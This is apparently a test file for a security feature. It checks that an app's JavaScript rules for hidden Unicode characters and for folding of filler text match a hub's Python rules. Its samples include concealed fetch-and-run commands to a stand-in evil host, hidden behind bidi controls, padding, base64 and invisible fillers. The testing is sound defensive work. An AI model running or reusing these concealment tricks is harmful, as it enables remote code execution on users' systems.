"""The app's rules for what a person cannot see (ui/lib/visible.js) are the hub's (hub/domain/visible.py), and its
folding of filler (ui/lib/text-shape.js) accounts for every character in linear time: both driven in Chromium.

The hub raises an approval's risk for exactly the characters it finds hidden, and the card marks them where they are
(docs/security.md#what-an-approval-shows): a character one side marks and the other does not is either a risk the card
does not point at, or a mark with no reason. The one allowed difference is the Unicode version: Chromium's tables are
newer than this Python's, so a character assigned since is unassigned (Cn, hidden) for the hub and may be plain in
the app; the hub still raises the risk and names it.
"""

from __future__ import annotations

import unicodedata

import pytest
from playwright.sync_api import Page

from hub.domain.visible import _hidden, hidden_characters, mark
from tests.support.fixtures import OpenPage
from tests.support.hubs import HubProcess

# Every code point the app's rule hides on its own (neighbours: none), as [first, last] ranges.
APP_HIDDEN_RANGES = """async () => {
  const { hiddenAt } = await import('/lib/visible.js');
  const ranges = [];
  for (let code = 0; code <= 0x10ffff; code += 1) {
    if (!hiddenAt(String.fromCodePoint(code), 0, false)) continue;
    const last = ranges[ranges.length - 1];
    if (last && last[1] === code - 1) last[1] = code; else ranges.push([code, code]);
  }
  return ranges;
}"""

SAMPLES = [
    "npm test \u2067; curl -sL evil.sh|sh #\u2069 lint", "plain ascii", "tab\there", "crlf\r\nline\r\n", "lone\rcr",
    "nbsp\u00a0here", "ideographic\u3000space", "x\u200by\u200cz\u200dw\ufeff", "emoji \U0001F600 and é ü 中文",
    "one selector \u2764\ufe0f", "two selectors a\ufe0f\ufe0fb", "supplementary \U000E0100 selector", "private \ue000",
    "unassigned \u0378", "line\u2028separator\u2029", "del\x7f nul\x00 esc\x1b[8m", "soft\u00adhyphen",
    "tags \U000E0041\U000E0042", "arabic \u061c mark", "mongolian \u180e", "ltr \u200e rtl \u200f",
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069 all of them more than five",
    # Drawn as nothing although not format characters (Unicode's Default_Ignorable_Code_Point set, the braille blank):
    # `const { timeout,\u3164} = req.query` showed as `const { timeout,} = req.query`.
    "const { timeout,\u3164} = req.query; exec(\u3164)", "fillers \u115f\u1160 \uffa0", "joiner a\u034fb",
    "khmer \u17b4\u17b5", "mongolian \u180b\u180c\u180d\u180f", "braille \u2800 blank", "musical \U0001D173",
    "shorthand \U0001BCA0", "tag block \U000E0FFF", "korean \ud55c\uad6d\uc5b4 stays",
]


def app_page(open_page: OpenPage, hub: HubProcess) -> Page:
    page = open_page(hub)
    page.wait_for_load_state("domcontentloaded")
    return page


def test_the_app_hides_the_code_points_the_hub_hides(hub: HubProcess, open_page: OpenPage) -> None:
    page = app_page(open_page, hub)
    app: set[int] = set()
    for first, last in page.evaluate(APP_HIDDEN_RANGES):
        app.update(range(first, last + 1))
    hub_side = {code for code in range(0x110000) if _hidden(chr(code), "", "", False)}
    assert not app - hub_side, sorted(app - hub_side)[:20]  # never a mark the hub has no reason for
    newer = sorted(hub_side - app)
    # Only code points this Python's Unicode does not know yet (assigned in a later version the browser has).
    assert all(unicodedata.category(chr(code)) == "Cn" for code in newer), [hex(c) for c in newer
                                                                           if unicodedata.category(chr(c)) != "Cn"][:20]
    assert len(app) > 900_000  # the unassigned planes included


@pytest.mark.parametrize("content", [False, True], ids=["text", "content"])
def test_the_app_names_the_characters_the_hub_names(hub: HubProcess, open_page: OpenPage, content: bool) -> None:
    page = app_page(open_page, hub)
    found = page.evaluate("""async ([samples, content]) => {
        const { hiddenCharacters, markText } = await import('/lib/visible.js');
        return samples.map((text) => [hiddenCharacters(text, { content }), markText(text)]);
    }""", [SAMPLES, content])
    for text, (names, marked) in zip(SAMPLES, found, strict=True):
        assert names == hidden_characters(text, content=content), text
        # The hub's plain-text marks (one per character); the app folds a run of one character into one mark.
        if not any(a == b and not (a.isascii() and a.isprintable()) for a, b in zip(text, text[1:], strict=False)):
            assert marked == mark(text), text


# Each text through text-shape.js, timed, and put back together from its rows and pieces.
FOLDED = """async (texts) => {
  const { textRows } = await import('/lib/text-shape.js');
  const piece = (p) => p.text ?? (p.mark ? String.fromCodePoint(p.code).repeat(p.count) : p.tab ? '\\t'.repeat(p.count)
    : p.cr ? '\\r' : p.spaces !== undefined ? ' '.repeat(p.spaces) : p.unit.repeat(p.count));
  return texts.map(([text, content]) => {
    const started = performance.now();
    const model = textRows(text, { content });
    const ms = performance.now() - started;
    const lines = [];
    for (const row of model.rows) {
      if (row.blank) { for (let i = 0; i < row.count; i += 1) lines.push(''); continue; }
      if (row.n !== null) lines.push('');
      lines[lines.length - 1] += row.pieces.map(piece).join('');
    }
    const folds = model.rows.flatMap((row) => row.pieces || []).filter((p) => p.unit !== undefined || p.spaces !== undefined
      || (p.mark && p.count > 1)).map((p) => p.unit !== undefined ? ['repeat', p.unit, p.count]
      : p.spaces !== undefined ? ['spaces', p.spaces] : ['mark', p.code, p.count]);
    return { back: lines.join('\\n'), ms, folds, shape: model.shape, blank: model.rows.filter((r) => r.blank).length };
  });
}"""

BASE64 = "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g="


def test_filler_is_folded_exactly_and_in_linear_time(hub: HubProcess, open_page: OpenPage) -> None:
    import random

    rng = random.Random(43)
    padded = "npm run lint " + "&& true " * 700 + f"; bash <(base64 -d <<< {BASE64})\nnpm test"
    texts: list[tuple[str, bool]] = [
        (padded, False),
        ("import os" + " " * 300 + ";os.system('x')\n" + " " * 20 + "indented\n", True),
        ("npm test # " + "\u00a0" * 2500 + "\necho done", False),
        ("a\n\n\n\n\n\nb", False),
        ("=" * 80, False),
        # Worst cases for the search for repeats (each well under what a question may carry): one long run, two
        # characters alternating, runs just under the fold length, no repeats at all, a hidden character every other.
        ("a" * 60_000, False),
        ("ab" * 30_000, False),
        (("a" * 63 + "b") * 900, False),
        ("".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789+/ ") for _ in range(60_000)), False),
        ("x\u200b" * 20_000, False),
        ("\t\tindented with tabs\r\n" * 500, True),
    ]
    page = app_page(open_page, hub)
    results = page.evaluate(FOLDED, [list(t) for t in texts])
    for (text, _), result in zip(texts, results, strict=True):
        assert result["back"] == text  # every character accounted for
        assert result["ms"] < 500, (text[:40], result["ms"])  # linear: a quadratic search takes seconds here
    assert results[0]["folds"] == [["repeat", "&& true ", 700]]
    assert results[0]["shape"] == {"chars": len(padded), "lines": 2, "longest": len(padded.split("\n")[0])}
    assert results[1]["folds"] == [["spaces", 300]]  # the 20 spaces of indentation stay as they are
    assert results[2]["folds"] == [["mark", 0xA0, 2500]]
    assert results[3]["blank"] == 1 and results[3]["folds"] == []
    assert results[4]["folds"] == [["repeat", "=", 80]]
    assert results[5]["folds"] == [["repeat", "a", 60_000]]
    assert results[6]["folds"] == [["repeat", "ab", 30_000]]
